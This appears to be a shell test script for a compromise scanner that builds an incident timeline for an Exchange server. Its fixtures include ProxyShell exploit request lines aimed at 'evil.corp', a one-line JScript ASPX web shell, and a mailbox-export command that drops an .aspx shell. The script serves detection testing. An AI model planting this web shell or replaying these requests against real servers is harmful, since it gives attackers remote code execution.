#!/usr/bin/env bash
# The per-host timeline of scan and report: log events, file times, how far
# back the logs reach, in time order; the moments a responder looks for; one
# timeline for a host merged from several walks; the main reason is the one
# that decides the verdict.  Trees and logs written by this test.
. "$(dirname "$0")/tap.sh"
export XDG_CACHE_HOME="$TMP/cache"
CONTRACT="$EXSCAN_SRCDIR/../shared/tools/check-output-contract.py"
F='#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'

# logs: ProxyShell succeeds on 2021-08-10, is tried again on 2021-08-12
LOGS="$TMP/logs"
mkdir -p "$LOGS/inetpub/logs/LogFiles/W3SVC1"
{
	echo "$F"
	echo "2021-08-09 23:00:00 10.0.0.1 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 - 200 0 0 5"
	echo "2021-08-10 01:02:03 10.0.0.1 GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 192.0.2.7 Mozilla/5.0+(Windows) - 200 0 0 15"
	echo "2021-08-12 01:02:03 10.0.0.1 GET /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEA 443 - 192.0.2.7 Mozilla/5.0+(Windows) - 401 0 0 15"
	echo "2021-08-14 05:00:00 10.0.0.1 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 - 200 0 0 5"
} >"$LOGS/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log"
# files: a shell written an hour after the first success, and a second page
FILES="$TMP/files"
mkdir -p "$FILES/inetpub/wwwroot/aspnet_client"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["z"],"unsafe");%%>' \
	>"$FILES/inetpub/wwwroot/aspnet_client/s.aspx"
touch -d "2021-08-10 02:00:00Z" "$FILES/inetpub/wwwroot/aspnet_client/s.aspx"
ALL="$TMP/all"
mkdir -p "$ALL"
cp -a "$LOGS/." "$FILES/." "$ALL/"
# and the event log of the Exchange management shell: the export of a mailbox
# into a web page, 45 minutes after the first success
mkdir -p "$ALL/Windows/System32/winevt/Logs"
cat >"$TMP/mgmt.json" <<'JSON'
[{"provider": "MSExchange CmdletLogs", "level": 4, "time": 1628559923, "channel": "MSExchange Management",
  "data": ["New-MailboxExportRequest", "-Mailbox 'admin@corp.example' -FilePath '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx'"]}]
JSON
python3 "$EXSCAN_SRCDIR/tests/evtx/write_evtx.py" "$ALL/Windows/System32/winevt/Logs/MSExchange Management.evtx" "$TMP/mgmt.json"
tap_ok $? "an MSExchange Management.evtx with a mailbox export to an .aspx is written"

run "$EXSCAN" scan --fs "$ALL" --host exch01 --format json --fail-on never
cp "$TMP/out" "$TMP/scan.json"
json_check "scan: the timeline is in time order" \
	"(lambda t: len(t) > 3 and [e['time'] for e in t] == sorted(e['time'] for e in t))(d['hosts'][0]['timeline'])"
json_check "scan: the first success from the IIS log, with its finding" \
	"(lambda h: any(e['type'] == 'log-first' and e['time'] == '2021-08-10T01:02:03Z' and e['success'] is True
	   and 'ProxyShell' in e['text'] and h['findings'][e['finding']]['rule'] == 'iis-proxyshell' for e in h['timeline']))(d['hosts'][0])"
json_check "scan: the event log's record is an event-log event at its time" \
	"any(e['type'] == 'log-first' and e['source'] == 'event-log' and e['time'] == '2021-08-10T01:45:23Z'
	     and 'event log' in e['text'] for e in d['hosts'][0]['timeline'])"
json_check "scan: the shell's modification time, one event for the file however many rules matched" \
	"[e['time'] for e in d['hosts'][0]['timeline'] if e['type'] == 'file-modified' and e['path'].endswith('s.aspx')] == ['2021-08-10T02:00:00Z']"
json_check "scan: findings carry ctime (and a null btime: no creation time from a POSIX walk)" \
	"(lambda f: f['ctime'] is not None and f['btime'] is None)(next(f for f in d['hosts'][0]['findings'] if f['kind'] == 'webshell'))"
json_check "scan: how far back the logs reach frames the timeline" \
	"(lambda t: t[0]['type'] == 'logs-begin' and t[0]['time'] == '2021-08-09T23:00:00Z' and any(e['type'] == 'logs-end' and e['time'] == '2021-08-14T05:00:00Z' for e in t))(d['hosts'][0]['timeline'])"
json_check "scan: the moments: first exploitation, first success, first shell, last activity" \
	"(lambda s: s['first_attempt']['time'] == '2021-08-10T01:02:03Z' and s['first_success']['time'] == '2021-08-10T01:02:03Z'
	   and s['first_shell']['time'] == '2021-08-10T02:00:00Z' and s['first_shell']['path'].endswith('s.aspx')
	   and s['last_activity']['time'] == '2021-08-12T01:02:03Z' and s['last_activity']['success'] is False
	   and s['omitted'] == 0)(d['hosts'][0]['timeline_summary'])"
json_check "scan: the log readers' attempts and successes per day (as in exscan logs; IIS and event log)" \
	"d['hosts'][0]['log_days'] == [{'date': '2021-08-10', 'campaign': 'ProxyShell', 'attempts': 0, 'successes': 2},
	                               {'date': '2021-08-12', 'campaign': 'ProxyShell', 'attempts': 1, 'successes': 0}]"
if [ -f "$CONTRACT" ]; then
	python3 "$CONTRACT" scan "$TMP/scan.json" >"$TMP/c" 2>&1
	tap_ok $? "scan JSON with a timeline meets the shared scan contract" "$(cat "$TMP/c")"
else
	tap_skip "scan JSON with a timeline meets the shared scan contract" "../shared is not there"
fi
run "$EXSCAN" scan --fs "$ALL" --host exch01 --fail-on never --no-color
grep -q "^  first shell  *2021-08-10T02:00:00Z  webshell .*aspnet_client/s.aspx$" "$TMP/out" &&
	grep -q "^  first success  *2021-08-10T01:02:03Z  first ProxyShell CVE-2021-34473 success" "$TMP/out" &&
	grep -q "^  last activity  *2021-08-12T01:02:03Z" "$TMP/out"
tap_ok $? "text: the moments of the timeline under the host" "$(cat "$TMP/out")"

# merged: logs walked on one machine, files on another, one host
run "$EXSCAN" walk --format jsonl --host exch01 --fail-on never "$LOGS"
cp "$TMP/out" "$TMP/w-logs.jsonl"
run "$EXSCAN" walk --format jsonl --host EXCH01 --fail-on never "$FILES"
cp "$TMP/out" "$TMP/w-files.jsonl"
run "$EXSCAN" walk --format json --host exch01 --fail-on never "$LOGS"
json_check "walk JSON carries the per-day log counts" "d['hosts'][0]['log_days'][0]['date'] == '2021-08-10'"
cp "$TMP/out" "$TMP/w-logs.json"
if [ -f "$CONTRACT" ]; then
	python3 "$CONTRACT" walk "$TMP/w-logs.json" >"$TMP/c" 2>&1
	tap_ok $? "walk JSON with log_days meets the shared walk contract" "$(cat "$TMP/c")"
else
	tap_skip "walk JSON with log_days meets the shared walk contract" "../shared is not there"
fi
run "$EXSCAN" report --format json --fail-on never "$TMP/w-logs.jsonl" "$TMP/w-files.jsonl"
cp "$TMP/out" "$TMP/merged-scan.json"
if [ -f "$CONTRACT" ]; then
	python3 "$CONTRACT" scan "$TMP/merged-scan.json" >"$TMP/c" 2>&1
	tap_ok $? "the merged report meets the shared scan contract" "$(cat "$TMP/c")"
else
	tap_skip "the merged report meets the shared scan contract" "../shared is not there"
fi
json_check "report: one host, one timeline of both walks, in time order" \
	"(lambda h: len(d['hosts']) == 1 and [e['type'] for e in h['timeline'] if e['type'] in ('log-first', 'file-modified')] == ['log-first', 'file-modified', 'log-first']
	   and h['timeline_summary']['first_shell']['time'] == '2021-08-10T02:00:00Z'
	   and all(h['findings'][e['finding']]['path'] == e['path'] for e in h['timeline']))(d['hosts'][0])"
cp "$TMP/out" "$TMP/merged.json"
run "$EXSCAN" report --format json --fail-on never "$TMP/merged.json"
json_check "report of a report: the timeline is rebuilt, not doubled" \
	"len(d['hosts'][0]['timeline']) == len(json.load(open('$TMP/merged.json'))['hosts'][0]['timeline'])"
run "$EXSCAN" logs --format json "$LOGS"
cp "$TMP/out" "$TMP/logs.json"
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); d["hosts"][0]["host"]="exch01"; json.dump(d, open(sys.argv[1], "w"))' "$TMP/logs.json"
run "$EXSCAN" report --format json --fail-on never "$TMP/logs.json" "$TMP/w-files.jsonl"
json_check "report: exscan logs' per-day timeline becomes log_days, the host gets an event timeline" \
	"(lambda h: h['log_days'][0]['date'] == '2021-08-10' and h['timeline_summary']['first_success']['time'] == '2021-08-10T01:02:03Z')(d['hosts'][0])"

# the main reason is the one that decides the verdict, not the first listed
python3 - "$TMP/vuln.jsonl" <<'PY'
import json, sys
probe = {"host": "exch02", "address": "10.0.0.2", "port": 443, "error": None,
         "probe": {"is_exchange": True, "build": "15.1.2176.2", "build_precision": "exact",
                   "build_source": "x-owa-version", "product": "Exchange Server 2016", "cu": "CU19",
                   "update": None, "checks": [],
                   "open_cves": [{"id": "CVE-2021-26855", "kev": True, "config_dependent": False,
                                  "certain": True, "fixed_by": "Mar21SU"}], "tls": None, "ntlm": None}}
walk = {"host": "exch02", "root": "/mnt/x", "stats": {"files_seen": 5, "files_scanned": 5, "errors": 0},
        "findings": [{"path": "inetpub/logs/LogFiles/W3SVC1/u.log", "kind": "log", "rule": "iis-proxyshell",
                      "family": None, "score": 60, "severity": "warning", "cve": "CVE-2021-34473",
                      "campaign": "ProxyShell", "success": False, "first_seen": "2021-08-12T01:02:03Z",
                      "last_seen": "2021-08-12T01:02:03Z", "count": 1, "clients": []}]}
open(sys.argv[1], "w").write(json.dumps(walk) + "\n" + json.dumps(probe) + "\n")
PY
run "$EXSCAN" report --format json --fail-on never "$TMP/vuln.jsonl"
json_check "the host is vulnerable and its first reason is only at-risk" \
	"(lambda h: h['verdict'] == 'vulnerable' and h['reasons'][0]['level'] == 'at-risk')(d['hosts'][0])"
run "$EXSCAN" report --fail-on never --no-color "$TMP/vuln.jsonl"
line=$(grep "^exch02 " "$TMP/out")
run "$EXSCAN" report --format json --fail-on never "$TMP/vuln.jsonl"
main=$(python3 -c 'import json,sys; h=json.load(open(sys.argv[1]))["hosts"][0]; print(next(r["text"] for r in h["reasons"] if r["level"] == "vulnerable")[:60])' "$TMP/out")
case "$line" in *"vulnerable"*"$main"*) st=0 ;; *) st=1 ;; esac
tap_ok $st "text: MAIN REASON is the vulnerable reason" "$line / want: $main"

# many events: the earliest and latest half are kept, the moments from all
python3 - "$TMP/many.jsonl" <<'PY'
import json, sys
fs = [{"path": "inetpub/logs/LogFiles/W3SVC1/u%04d.log" % i, "kind": "log", "rule": "iis-proxyshell-%d" % i,
       "family": None, "score": 60, "severity": "warning", "cve": "CVE-2021-34473", "campaign": "ProxyShell",
       "success": False, "first_seen": "2021-%02d-%02dT00:00:%02dZ" % (1 + i // 28 % 12, 1 + i % 28, i % 60),
       "last_seen": "2022-%02d-%02dT00:00:%02dZ" % (1 + i // 28 % 12, 1 + i % 28, i % 60), "count": 2, "clients": []}
      for i in range(300)]
h = {"host": "busy", "root": "/mnt/b", "stats": {"files_seen": 1, "files_scanned": 1, "errors": 0}, "findings": fs}
open(sys.argv[1], "w").write(json.dumps(h) + "\n")
PY
run "$EXSCAN" report --format json --fail-on never "$TMP/many.jsonl"
json_check "600 events: 400 kept (earliest and latest 200), 200 omitted and counted" \
	"(lambda h: len(h['timeline']) == 400 and h['timeline_summary']['events'] == 600 and h['timeline_summary']['omitted'] == 200
	   and h['timeline'][0]['time'] == '2021-01-01T00:00:00Z' and h['timeline'][-1]['time'] == h['timeline_summary']['last_activity']['time'])(d['hosts'][0])"
tap_done
